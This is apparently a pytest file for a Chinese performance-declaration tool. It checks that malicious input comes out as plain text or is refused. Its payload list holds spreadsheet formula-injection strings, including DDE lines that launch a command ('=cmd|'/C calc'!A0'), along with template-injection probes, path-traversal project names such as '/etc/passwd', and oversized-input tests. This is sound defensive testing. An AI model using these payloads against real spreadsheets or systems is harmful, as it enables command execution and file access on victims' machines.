"""Data that means harm: it prints as it was typed, or is refused, and nothing else happens."""

from __future__ import annotations

import json
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter

from jixiao.declaration.findings import Finding
from jixiao.exchange.data_files.declaring import declare
from jixiao.exchange.data_files.record_files import open_sources
from jixiao.exchange.data_files.sources import Source
from jixiao.exchange.papers.filing import FilingOptions, iter_filed
from jixiao.exchange.papers.form_making import Filed
from jixiao.exchange.papers.forms import choose_forms

ROOT = Path(__file__).parents[2]
EXAMPLE = json.loads((ROOT / "docs" / "examples" / "社会服务项目大赛.json").read_text("utf-8"))

#: Texts that a spreadsheet, a template engine or XML would take for more than text.
HARMFUL = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://example.invalid?"&A1)',
    '=WEBSERVICE("http://example.invalid")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "{{ 7*7 }}",
    "{% for a in range(9) %}x{% endfor %}",
    "{{ ().__class__.__mro__ }}",
    "{# hidden #}",
    "</t></is></c><c><f>1+1</f></c>",
    "<![CDATA[x]]>",
    "&lt;b&gt; &#65; &x;",
)


def findings_of(file: Path) -> list[Finding]:
    return [
        finding
        for records in open_sources([Source(file)])
        for record in records
        for finding in declare(record).findings
    ]


def file_projects(folder: Path, *projects: dict[str, object]) -> list[Filed]:
    data = folder / "data.json"
    data.write_text(json.dumps(projects, ensure_ascii=False), "utf-8")
    options = FilingOptions(choose_forms("绩效目标申报表", None), folder / "output", jobs=1)
    return list(iter_filed([Source(data)], options))


@pytest.mark.parametrize("text", HARMFUL)
def test_a_harmful_text_prints_as_it_was_typed(tmp_path: Path, text: str) -> None:
    indicators = [{"一级指标": "产出指标", "二级指标": "数量指标", "三级指标": text, "年度指标值": text}]
    project = EXAMPLE | {"项目概况": text, "填报人": text, "绩效指标": indicators}
    (made,) = file_projects(tmp_path, project)
    assert made.form
    sheet = openpyxl.load_workbook(made.form).active
    assert sheet
    shown = [cell.value for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert shown.count(text.strip()) == 4, "概况, 填报人, a name and a value"
    with zipfile.ZipFile(made.form) as package:
        xml = package.read("xl/worksheets/sheet1.xml").decode()
    assert {formula for formula in re.findall(r"<f>(.*?)</f>", xml) if not formula.startswith("SUM(")} == set()


@pytest.mark.parametrize(
    "name",
    ["../../逃出", "/etc/passwd", "C:\\Windows\\x", "NUL", "con.txt", "a/../../b", "结尾. .", "项" * 400, "..", "~"],
)
def test_no_project_name_leads_out_of_the_output_folder(tmp_path: Path, name: str) -> None:
    (made,) = file_projects(tmp_path, EXAMPLE | {"项目名称": name})
    assert made.form
    assert made.form.resolve().parent == (tmp_path / "output" / "2020").resolve()
    assert sorted(path.name for path in tmp_path.iterdir()) == ["data.json", "output"]


def test_a_symbolic_link_in_the_output_folder_is_replaced_and_not_followed(tmp_path: Path) -> None:
    outside = tmp_path / "other.xlsx"
    outside.write_bytes(b"not ours")
    target = tmp_path / "output" / "2020" / "甲.xlsx"
    target.parent.mkdir(parents=True)
    target.symlink_to(outside)
    (refused,) = file_projects(tmp_path, EXAMPLE | {"项目名称": "甲"})
    assert refused.failed, "a file that was never made here is not overwritten"
    assert outside.read_bytes() == b"not ours"


@pytest.mark.parametrize(
    "amount", ["1e99999999999", "-1e99999999999", "1e-99999999999", "9" * 5000, "0." + "0" * 40 + "1", "1e308"]
)
def test_a_number_of_any_size_is_read_or_refused_at_once(tmp_path: Path, amount: str) -> None:
    file = tmp_path / "甲.json"
    text = json.dumps(EXAMPLE, ensure_ascii=False)
    file.write_text(re.sub(r'"总投入": "?[\d.]+(万元)?"?', f'"总投入": {amount}', text), "utf-8")
    assert {finding.rule for finding in findings_of(file)} >= {"D01"}
    file.write_text(
        json.dumps(EXAMPLE | {"填报人": 0}, ensure_ascii=False).replace('"填报人": 0', f'"填报人": {amount}')
    )
    assert all(len(finding.message) < 2000 for finding in findings_of(file))


@pytest.mark.parametrize("start", ["[", '{"资金":', '{"绩效指标":[{"一级指标":'])
def test_json_nested_without_end_is_refused(tmp_path: Path, start: str) -> None:
    file = tmp_path / "甲.json"
    file.write_text(start * 100_000, "utf-8")
    assert [finding.rule for finding in findings_of(file)] == ["D04"]


def test_a_workbook_that_claims_the_whole_sheet_and_every_column_is_read_at_once(tmp_path: Path) -> None:
    file = tmp_path / "甲.xlsx"
    with xlsxwriter.Workbook(file) as book:
        style = book.add_format({"bold": True})
        sheet = book.add_worksheet("项目信息")
        for row, (label, value) in enumerate((("年度", 2020), ("项目名称", "甲"), ("实施单位", "乙"))):
            sheet.write(row, 0, label)
            sheet.write(row, 1, value)
        for column in range(16_384):
            sheet.set_column(column, column, 3, style)
            sheet.write_blank(5, column, None, style)
    with zipfile.ZipFile(file) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    part = "xl/worksheets/sheet1.xml"
    parts[part] = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', parts[part])
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    assert not [finding for finding in findings_of(file) if finding.level == "error"]
